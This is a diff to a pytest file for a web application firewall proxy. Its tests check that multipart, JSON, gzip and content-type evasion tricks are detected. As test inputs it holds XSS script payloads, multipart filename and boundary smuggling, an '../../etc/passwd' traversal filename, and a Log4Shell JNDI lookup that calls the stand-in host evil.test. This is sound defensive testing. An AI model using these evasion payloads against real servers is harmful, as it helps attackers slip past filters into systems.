@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import base64
 import contextlib
+import gzip
 import json
 import logging
 import string
@@ -205,7 +207,7 @@ ODD = "it's (a) text; of <odd> signs "
         (b"&" * 20_000, "application/x-www-form-urlencoded"),
         (json.dumps([ODD] * 700).encode(), "application/json"),
         (b'["' + b'","' * 20_000, "application/json"),
-        (b"--x\r\n\r\n's" * 7_500, "multipart/form-data; boundary=x"),
+        (b"\r\n--x\r\n\r\n's" * 6_000, "multipart/form-data; boundary=x"),
     ],
 )
 def test_more_than_a_request_may_hold_is_an_attack_of_its_own(content: bytes, media_type: str) -> None:
@@ -422,3 +424,86 @@ def test_what_was_found_is_logged_in_one_line_whatever_it_holds(caplog: pytest.L
         "attack blocked, score 5: rule 941110 (script element) in query \"q\": '<script\\n\\x1b[31m'; "
         "request 7 of 192.0.2.1, route shop"
     ]
+
+
+# ---- content that servers read in another way
+
+
+SCRIPT = b"<script>alert(1)</script>"
+UPLOAD = b'--B\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\nx'
+FIELD = b'Content-Disposition: form-data; name="q"'
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"--B\r\n" + FIELD + b"\r\n\r\n" + SCRIPT,
+        b"--B\n" + FIELD + b"\n\n" + SCRIPT + b"\n--B--\n",
+        b"--B\r\n" + FIELD + b"\r\nX-Note: ;filename=x\r\n\r\n" + SCRIPT,
+        b"--B\r\n" + FIELD + b"; filename*=x\r\n\r\n" + SCRIPT,
+        b"--B\r\n" + FIELD[:-1] + b'\\"; filename=x"\r\n\r\n' + SCRIPT,
+        b"--B\r\n" + FIELD[:-1] + b"; filename=x\r\n\r\n" + SCRIPT,
+        b"--B\r\n" + FIELD + b"; filename=x\r\n" + FIELD + b"\r\n\r\n" + SCRIPT,
+        b"--B\r\n" + FIELD + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(SCRIPT),
+        b"--B\r\n" + FIELD + b"\r\n\r\nx--B\r\n" + UPLOAD[5:] + SCRIPT,
+        UPLOAD + b"\r\n--Bx\r\n" + FIELD + b"\r\n\r\n" + SCRIPT,
+        b'--B\r\nContent-Disposition: form-data; name="f"; filename="a;../../etc/passwd"\r\n\r\nx',
+        b'--B\r\nContent-Disposition: form-data; name="a;' + SCRIPT + b'"\r\n\r\nx',
+    ],
+)
+def test_no_field_of_a_form_passes_for_a_file(content: bytes) -> None:
+    assert post(content, "multipart/form-data; boundary=B") is not None
+
+
+def test_files_are_not_read() -> None:
+    assert post(UPLOAD + SCRIPT + b"\r\n--B--\r\n", "multipart/form-data; boundary=B") is None
+
+
+@pytest.mark.parametrize(
+    "media_type",
+    [
+        ["image/png", "application/json"],
+        "multipart/form-data",
+        "multipart/form-data; xboundary=A; boundary=B",
+        "multipart/form-data; boundary=A; boundary=B",
+        "application/x-www-form-urlencoded; charset=utf-7",
+        'application/json;charset="IBM037"',
+    ],
+)
+def test_content_that_servers_read_in_several_ways_is_refused(media_type: Any) -> None:
+    journey = Proxy(configuration(mode="block")).request(
+        "POST", "http://a/", headers={"Content-Type": media_type}, body=b"a"
+    )
+    journey.is_refused(400, rule="waf.content_type")
+
+
+@pytest.mark.parametrize("content", [b'/* " */{"q":"<script>"}', b"{'q':'<script>'}", b"q=<script>", b'{"q":"<script>'])
+def test_what_is_no_strict_json_is_read_all_the_same(content: bytes) -> None:
+    assert post(content, "application/json") is not None
+
+
+@pytest.mark.parametrize(
+    "content", [b'\xef\xbb\xbf[NaN, -Infinity, 1.5E+7, null, true, false, ""]', b'{"a": 1}\n{"b": "cut']
+)
+def test_json_says_nothing_between_its_strings(content: bytes) -> None:
+    assert post(content, "application/json") is None
+
+
+def test_packed_content_is_read_to_its_last_member_and_refused_where_it_cannot_be() -> None:
+    head = {"Content-Type": "application/x-www-form-urlencoded", "Content-Encoding": "gzip"}
+    packed = gzip.compress(b"a=1") + gzip.compress(b"&q=" + SCRIPT)
+    guarded = Proxy(configuration(mode="block"))
+    guarded.request("POST", "http://a/", headers=head, body=packed).is_refused(403, rule="waf.941110")
+    damaged = packed[:-8] + b"0000" + packed[-4:]
+    guarded.request("POST", "http://a/", headers=head, body=damaged).is_refused(415, rule="waf.coding")
+    many = gzip.compress(b"") * 17
+    guarded.request("POST", "http://a/", headers=head, body=many).is_refused(415, rule="waf.coding")
+    assert (
+        Proxy(configuration(mode="detect")).request("POST", "http://a/", headers=head, body=damaged).outbound
+        is not None
+    )
+
+
+@pytest.mark.parametrize("name", [b"accept", b"authorization", b"date", b"origin"])
+def test_what_loggers_look_up_is_found_in_fields_that_nobody_else_reads(name: bytes) -> None:
+    assert Inspector(Waf()).head(head_of(b"/", (name, b"${jndi:ldap://evil.test/a}"))) is not None
